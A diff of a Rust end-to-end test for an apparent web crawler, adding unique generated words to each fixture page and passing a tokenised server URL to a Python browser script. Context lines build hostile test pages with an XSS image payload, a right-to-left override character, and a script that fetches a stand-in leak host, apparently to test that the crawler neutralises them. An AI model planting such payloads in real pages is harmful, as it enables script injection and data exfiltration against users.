@@ -21,7 +21,10 @@ fn site() -> Hand {
             .collect();
         let title = format!("Page {n} <img src=x onerror=alert(1)> \u{202e}txt");
         let title = title.replace('<', "&lt;");
-        let text = format!("This page is number {n}. It tells of owls, barns and {}.", n * 31);
+        // Words of its own, so that no page is taken for a copy of another.
+        let own = (1..=80_u64).map(|k| (n as u64 * 80 + k).wrapping_mul(0x9e37_79b9_7f4a_7c15));
+        let own: String = own.map(|word| format!("w{:x} ", word >> 40)).collect();
+        let text = format!("This page is number {n}. It tells of owls, barns and {own}.");
         let more = "<a href=/gone>broken</a> <a href=/moved>moved</a>";
         let script = "<script>fetch('http://leak.example/')</script><img src=//leak.example/x.png>";
         let body = format!("<title>{title}</title><h1>Owls</h1><p>{text}<p>{links}{more}{script}");
@@ -58,7 +61,12 @@ fn a_browser_starts_watches_steers_and_searches_a_crawl() {
     let server = Server::start(root.path());
     let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/page/e2e.py");
     let mut command = Command::new(python);
-    command.arg(script).arg(server.link.trim()).arg(web.url("127.0.0.1/")).arg(shots()).arg("owls");
+    command
+        .arg(script)
+        .arg(format!("http://{}/?token={TOKEN}", server.at))
+        .arg(web.url("127.0.0.1/"))
+        .arg(shots())
+        .arg("owls");
     let tried = command.output().expect("python starts");
     let said = String::from_utf8_lossy(&tried.stderr).into_owned();
     assert!(tried.status.success(), "{}\n{said}", String::from_utf8_lossy(&tried.stdout));
